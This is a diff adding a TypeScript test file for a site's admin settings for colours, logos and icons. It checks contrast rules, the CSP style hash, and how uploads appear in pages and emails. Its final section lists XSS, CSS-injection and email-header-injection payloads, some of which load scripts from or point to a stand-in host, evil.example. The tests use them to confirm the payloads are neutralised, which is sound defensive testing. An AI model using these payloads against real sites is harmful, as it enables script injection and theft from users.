@@ -1,0 +1,279 @@
+import { readFileSync } from "node:fs";
+import { createHash } from "node:crypto";
+import { Parser } from "htmlparser2";
+import { beforeEach, describe, expect, it } from "vitest";
+import { builtInColors } from "#domain/settings/groups/look.shared.ts";
+import { settingsGroups } from "#domain/settings/settings-groups.ts";
+import { settings, settingsPictures } from "#domain/settings/schema.ts";
+import { queueOptionalEmail } from "#domain/email-preferences/queue-optional-email.ts";
+import { db } from "#test/db.ts";
+import { anAdmin, aUser, cookieOf } from "#test/factories.ts";
+import { attributeOf, mainOf, textOf } from "#test/html.ts";
+import { aSite } from "#test/site.ts";
+import { aJpeg, anSvg } from "#test/uploads.ts";
+
+const screen = "/admin/dashboard/settings/look";
+const green = { primaryLight: "#0b5d3b", primaryDark: "#7fd1a8", accentLight: "#cfe8d8", accentDark: "#a3d9bd" };
+
+let site: ReturnType<typeof aSite>;
+let headers: Record<string, string>;
+
+beforeEach(async () => {
+  site = aSite();
+  headers = { cookie: await cookieOf(site.app, await anAdmin(db)) };
+});
+
+async function hiddenField(name: string): Promise<string> {
+  const page = await (await site.visit(screen, { headers })).text();
+  const [field = ""] = new RegExp(`<input[^>]* name="${name}"[^>]*>`).exec(page) ?? [];
+  return attributeOf(field, "value") ?? "";
+}
+
+/** Saves the look as a browser without scripts. */
+async function save(fields: Record<string, string | Uint8Array>) {
+  const body = new FormData();
+  const kept = { logoKey: await hiddenField("logoKey"), iconKey: await hiddenField("iconKey") };
+  for (const [name, value] of Object.entries({ intent: "save", previous: await hiddenField("previous"), ...kept, ...fields }))
+    body.append(name, typeof value === "string" ? value : new File([new Uint8Array(value)], "picture.jpg"));
+  return site.visit(screen, { body, headers });
+}
+
+/** The style sheets and the handlers of a page, read by a parser. */
+function partsOf(html: string) {
+  const parts = { styles: [] as string[], scripts: 0, handlers: [] as string[], addresses: [] as string[] };
+  let style: string | null = null;
+  new Parser({
+    onopentag(name, attributes) {
+      if (name === "style") style = "";
+      if (name === "script") parts.scripts += 1;
+      for (const [key, value] of Object.entries(attributes)) {
+        if (/^on/.test(key) || key === "style") parts.handlers.push(key);
+        if (["href", "src", "action", "srcset", "poster"].includes(key)) parts.addresses.push(value);
+      }
+    },
+    ontext: (text) => void (style !== null && (style += text)),
+    onclosetag(name) {
+      if (name === "style" && style !== null) parts.styles.push(style);
+      if (name === "style") style = null;
+    },
+  }).end(html);
+  return parts;
+}
+
+describe("the look of the site", () => {
+  it("changes the colors of pages and emails, under the page's security policy [settings.look]", async () => {
+    expect(partsOf(await site.page("/about")).styles).toEqual([]);
+    expect((await save(green)).status).toBe(302);
+    for (const response of [await site.visit("/about"), (await site.render("/about")).response]) {
+      const [css, ...others] = partsOf(await response.clone().text()).styles;
+      expect(others).toEqual([]);
+      expect(css).toMatch(
+        /^html:root\{--accent:#0b5d3b;.*--wheat:#cfe8d8;.*\}@media screen and \(prefers-color-scheme:dark\)\{.*#7fd1a8/,
+      );
+      const hash = createHash("sha256").update(css!).digest("base64");
+      expect(response.headers.get("content-security-policy")).toContain(`style-src 'self' 'sha256-${hash}';`);
+    }
+    const payload = { business: "Plumbing", link: "/business/1" };
+    const { email: to } = await aUser(db);
+    await queueOptionalEmail(db, site.app, { to, kind: "business-approved", payload, topic: "weekly_summary" });
+    expect((await site.deliver())[0]!.html).toContain("background-color:#0b5d3b");
+  });
+
+  it("uses a logo and an icon in the header, as favicon, in emails, structured data and share images [settings.look]", async () => {
+    const shareImage = async () => Buffer.from(await (await site.visit("/share/site/town.jpg")).arrayBuffer()).toString("base64");
+    const before = await shareImage();
+    expect((await save({ logoFile: await aJpeg(300, 150), iconFile: await aJpeg(200, 200) })).status).toBe(302);
+    const { look } = settingsGroups;
+    const [row] = await db.select().from(settings);
+    const value = look.fields.parse(row!.value);
+    const [logo, icon] = [`/pictures/${value.logo!.storageKey}`, `/pictures/${value.icon!.storageKey}`];
+    const page = await site.page("/");
+    for (const part of [
+      `src="${logo}/300.webp"`,
+      `rel="icon" href="${icon}/180.png"`,
+      `rel="apple-touch-icon" href="${icon}/180.png"`,
+    ])
+      expect(page).toContain(part);
+    expect(page).toContain(`"logo":"http://site.test${logo}/300.webp"`);
+    for (const [file, type] of [
+      [`${logo}/300.webp`, "image/webp"],
+      [`${icon}/180.png`, "image/png"],
+      [`${logo}/share.jpg`, "image/jpeg"],
+    ] as const) {
+      const response = await site.visit(file);
+      expect([file, response.status, response.headers.get("content-type")]).toEqual([file, 200, type]);
+    }
+    expect(await shareImage()).not.toBe(before);
+    const { email: to } = await aUser(db);
+    await queueOptionalEmail(db, site.app, {
+      to,
+      kind: "business-approved",
+      payload: { business: "P", link: "/business/1" },
+      topic: "weekly_summary",
+    });
+    expect((await site.deliver())[0]!.html).toContain(`http://site.test${logo}/share.jpg`);
+
+    // The first logo stays stored, so that it can be restored.
+    await save({ logoRemove: "on" });
+    expect(await site.page("/")).not.toContain(logo);
+    await site.visit(screen, { form: { intent: "restore", id: await hiddenField("id") }, headers });
+    expect(await site.page("/")).toContain(`src="${logo}/300.webp"`);
+    expect(await db.select().from(settingsPictures)).toHaveLength(2);
+  });
+
+  it.each<[string, Record<string, string>, string]>([
+    [
+      "a color that is too light",
+      { ...green, primaryLight: "#66aa88" },
+      "The contrast with the light background is 2.40:1. It must be at least 4.5:1. Choose a darker color.",
+    ],
+    [
+      "a color that is too dark for the dark theme",
+      { ...green, primaryDark: "#1d4f86" },
+      "The contrast with the dark background is",
+    ],
+    ["a highlight without readable text", { ...green, accentLight: "#7c7c7c" }, "The contrast with text on it is"],
+    [
+      "a color for one theme only",
+      { primaryLight: "#0b5d3b", primaryDark: "" },
+      "Choose the color for this theme too, or leave both empty.",
+    ],
+    ["a word", { ...green, primaryLight: "green" }, "Enter a color as # and six digits, such as #1d4f86."],
+  ])("refuses %s and keeps what was typed [settings.look]", async (_, colors, reason) => {
+    const refused = await save(colors);
+    const page = await refused.text();
+    expect([refused.status, textOf(mainOf(page)).includes(reason) ? reason : textOf(mainOf(page))]).toEqual([400, reason]);
+    for (const value of Object.values(colors).filter(Boolean)) expect(page).toContain(`value="${value}"`);
+    expect(await db.select().from(settings)).toEqual([]);
+  });
+
+  it("refuses SVG files, and keeps the colors and a good file [settings.look]", async () => {
+    const refused = await save({ ...green, logoFile: new Uint8Array(anSvg), iconFile: await aJpeg(200, 200) });
+    const page = await refused.text();
+    expect([refused.status, textOf(mainOf(page)).includes("This file is not an image we can read.")]).toEqual([400, true]);
+    expect(page).toContain(`value="${green.primaryLight}"`);
+    expect(page).toMatch(/name="iconKey" value="[0-9a-f]{32}"/);
+    expect(await db.select().from(settings)).toEqual([]);
+  });
+
+  it("knows the colors of app.css [settings.look]", () => {
+    const css = readFileSync("app/app.css", "utf8");
+    const [light, dark] = [css, css.slice(css.indexOf("prefers-color-scheme: dark"))].map(
+      (text) => (name: string) => hexOf(new RegExp(`--${name}: oklch\\(([\\d. ]+)\\)`).exec(text)![1]!),
+    ) as [(name: string) => string, (name: string) => string];
+    expect(builtInColors).toEqual({
+      primaryLight: light("accent"),
+      primaryDark: dark("accent"),
+      accentLight: light("wheat"),
+      accentDark: dark("wheat"),
+    });
+    const source = readFileSync("domain/settings/groups/look.shared.ts", "utf8");
+    for (const [themeName, of] of [
+      ["light", light],
+      ["dark", dark],
+    ] as const)
+      for (const name of ["paper", "surface", "sunken"]) expect(source, `${themeName} ${name}`).toContain(`"${of(name)}"`);
+  });
+});
+
+/** Converts "lightness chroma hue" of OKLCH to "#rrggbb". */
+function hexOf(oklch: string): string {
+  const [lightness, chroma, hue] = oklch.split(" ").map(Number) as [number, number, number];
+  const [a, b] = [chroma * Math.cos((hue * Math.PI) / 180), chroma * Math.sin((hue * Math.PI) / 180)];
+  const [l, m, s] = [
+    (lightness + 0.3963377774 * a + 0.2158037573 * b) ** 3,
+    (lightness - 0.1055613458 * a - 0.0638541728 * b) ** 3,
+    (lightness - 0.0894841775 * a - 1.291485548 * b) ** 3,
+  ];
+  const linear = [
+    4.0767416621 * l - 3.3077115913 * m + 0.2309699292 * s,
+    -1.2684380046 * l + 2.6097574011 * m - 0.3413193965 * s,
+    -0.0041960863 * l - 0.7034186147 * m + 1.707614701 * s,
+  ];
+  const channels = linear.map((value) => {
+    const part = Math.min(1, Math.max(0, value));
+    return Math.round(255 * (part <= 0.0031308 ? 12.92 * part : 1.055 * part ** (1 / 2.4) - 0.055));
+  });
+  return `#${channels.map((channel) => channel.toString(16).padStart(2, "0")).join("")}`;
+}
+
+const attacks = [
+  `<script>alert(1)</script>`,
+  `"><img src=x onerror=alert(1)>`,
+  `</title><script src=//evil.example/x.js></script>`,
+  `</style><script>alert(1)</script>`,
+  `</script><svg onload=alert(1)>`,
+  `' onmouseover='alert(1)`,
+  `" style="background:url(//evil.example)`,
+  `<style>*{background:url(//evil.example/c)}</style>`,
+  `javascript:alert(1)`,
+  `<a href="javascript:alert(1)">x</a>`,
+  `<iframe src=//evil.example></iframe>`,
+  `<base href=//evil.example/>`,
+  `<meta http-equiv=refresh content=0;url=//evil.example>`,
+  `&lt;script&gt;alert(1)&lt;/script&gt;`,
+  `]]><script>alert(1)</script>`,
+  `--></textarea><script>alert(1)</script>`,
+  "x\r\nBcc: evil@evil.example",
+  `{"@type":"x"}</script><script>alert(1)`,
+];
+const cssAttacks = [
+  "red;}*{background:url(//evil.example)}",
+  "#000000;background:url(//evil.example)",
+  "#12345g",
+  "#0b5d3b}",
+  "expression(alert(1))",
+  "url(//evil.example/x)",
+  "var(--x)",
+  "</style><script>alert(1)</script>",
+  "#0b5d3b/**/",
+  "\\23 000",
+];
+
+describe("a setting", () => {
+  it.each(attacks)("does nothing with %j in names, promise, marketing and copyright [settings.injection]", async (attack) => {
+    const before = partsOf(await site.page("/"));
+    const post = async (group: string, form: Record<string, string>) => {
+      const path = `/admin/dashboard/settings/${group}`;
+      const page = await (await site.visit(path, { headers })).text();
+      const previous = attributeOf(/<input[^>]* name="previous"[^>]*>/.exec(page)![0], "value")!;
+      expect((await site.visit(path, { form: { intent: "save", previous, ...form }, headers })).status).toBe(302);
+    };
+    const siteName = attack.slice(0, 60);
+    const place = { name: siteName, state: siteName, stateCode: "<b>", postalCode: `"><u>` };
+    await post("names", { ...place, siteName, promise: attack });
+    await post("marketing", { reviewTime: siteName, replyTime: siteName });
+    await post("copyright", { holder: attack, year: "2031" });
+    await post("legal", { legalName: attack, postalAddress: attack.padEnd(10, "x") });
+    for (const path of ["/", "/contact", "/new-businesses.rss", screen]) {
+      const html = await (await site.visit(path, { headers: path === screen ? headers : {} })).text();
+      const { handlers, addresses, scripts, styles } = partsOf(html);
+      expect(handlers, path).toEqual([]);
+      expect(
+        addresses.filter((address) => /^\s*(javascript:|\/\/evil|https?:\/\/evil)/i.test(address)),
+        path,
+      ).toEqual([]);
+      expect(styles, path).toEqual([]);
+      if (path === "/") expect(scripts).toBe(before.scripts);
+    }
+    const { email: to } = await aUser(db);
+    await queueOptionalEmail(db, site.app, {
+      to,
+      kind: "business-approved",
+      payload: { business: "P", link: "/business/1" },
+      topic: "weekly_summary",
+    });
+    const [email] = await site.deliver();
+    expect(email!.subject).not.toMatch(/[\r\n]/);
+    expect(partsOf(email!.html)).toMatchObject({ scripts: 0 });
+    expect(partsOf(email!.html).handlers.filter((name) => name !== "style")).toEqual([]);
+  });
+
+  it.each(cssAttacks)("refuses the color %j [settings.injection]", async (attack) => {
+    expect((await save({ ...green, primaryLight: attack })).status).toBe(400);
+    await db
+      .insert(settings)
+      .values({ name: "look", value: { ...green, primaryLight: attack, logo: null, icon: null }, updatedAt: new Date(0) });
+    expect(partsOf(await site.page("/about")).styles).toEqual([]);
+  });
+});
